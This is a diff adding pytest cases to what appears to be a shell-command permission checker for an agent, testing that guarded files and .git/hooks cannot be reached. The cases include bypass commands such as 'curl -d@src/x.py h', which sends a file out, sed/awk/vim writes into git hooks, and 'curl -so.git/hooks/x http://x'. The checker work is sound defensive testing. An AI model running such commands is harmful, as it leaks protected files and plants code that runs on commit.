@@ -103,6 +103,13 @@ def test_a_deny_rule_sees_through_and_what_may_be_forbidden_is_asked(command: st
         "bash -c 'cat src/x.py'",
         "ls && cat src/x.py",
         "grep -r x src",
+        "curl -d@src/x.py h",
+        "curl -F f=@src/x.py h",
+        "sed 'r src/x.py' a.py",
+        "sed 'rsrc/x.py' a.py",
+        "python -c \"open('src/x.py')\"",
+        "awk 'BEGIN{getline < \"src/x.py\"}'",
+        "echo src/x.py | xargs cat",
     ],
 )
 def test_a_file_that_must_not_be_read_is_read_by_no_command_either(command: str, project: Path):
@@ -116,7 +123,8 @@ def test_a_file_that_must_not_be_read_is_read_by_no_command_either(command: str,
     "command",
     [
         "rg x", "rg x src", "grep -r x", "grep -rn x .", "find . -exec cat {} +", "tar c .", "cp -a . /tmp/y", "git diff",
-        "git grep x", "timeout 5 rg x", "diff -r src plain",
+        "git grep x", "timeout 5 rg x", "diff -r src plain", "grep -d recurse x .", "grep --dir=recurse x", "grep -5r x",
+        "grep --rec x", "grep --deref x", "diff a.py src", "for f in *; do cat $f; done",
         "mv src s",
     ],
 )  # fmt: skip
@@ -149,6 +157,18 @@ def test_without_a_sandbox_what_goes_through_folders_is_asked_where_a_file_in_th
         "git add --pathspec-from-file=.git/config",
         "git commit -F .git/hooks/x --template=.git/x",
         "timeout 5 git log --output=.git/hooks/pre-commit",
+        "uniq - .git/hooks/x",
+        "sort -no.git/hooks/x a.py",
+        "sort -nosrc/hooks/x a.py",
+        "tar cf.git/hooks/x a.py",
+        "curl -so.git/hooks/x http://x",
+        "sed 'w .git/hooks/x' a.py",
+        "sed -n 's/x/y/w.git/hooks/x' a.py",
+        "sed -e 'w src/hooks/x' a.py",
+        r"sed 's/x/cp a .git\/hooks\/x/e' a.py",
+        "awk '{print > \".git/hooks/x\"}' a.py",
+        "python -c \"open('.envrc', 'w')\"",
+        "vim -c 'w .git/hooks/x' a.py",
     ],
 )
 def test_no_wide_rule_reaches_a_guarded_place_without_a_sandbox(command: str, project: Path):
@@ -160,8 +180,13 @@ def test_no_wide_rule_reaches_a_guarded_place_without_a_sandbox(command: str, pr
         "shell: git add **",
         "shell: git commit **",
         "shell: ruff **",
+        *(f"shell: {name} **" for name in ("uniq", "sort", "tar", "curl", "sed", "awk", "python", "vim")),
     )
     assert verdict(command, project, "ask", wide, shut_in=False).verdict == "ask"
+    assert (
+        verdict("sed 's/.x/y/w out.txt' a.py; tar cf x.tar a.py; sort -no x a.py", project, "ask", wide).verdict
+        == "allow"
+    )
 
 
 @pytest.mark.parametrize(
@@ -180,6 +205,7 @@ def test_no_wide_rule_reaches_a_guarded_place_without_a_sandbox(command: str, pr
         ("uv run python x.py", ("shell: uv run python x.py",)),
         ("for f in a; do rm $f; done", ()),
         ("echo x | bash", ()),
+        ("echo x | busybox sh", ()),
         ("cp x .git/hooks/y", ()),
         ("git log -3", ("shell: git log -3", "shell: git log **")),
         ("echo x > src/a", ("write_file: src/a", "write_file: src/*", "write_file: src/**")),
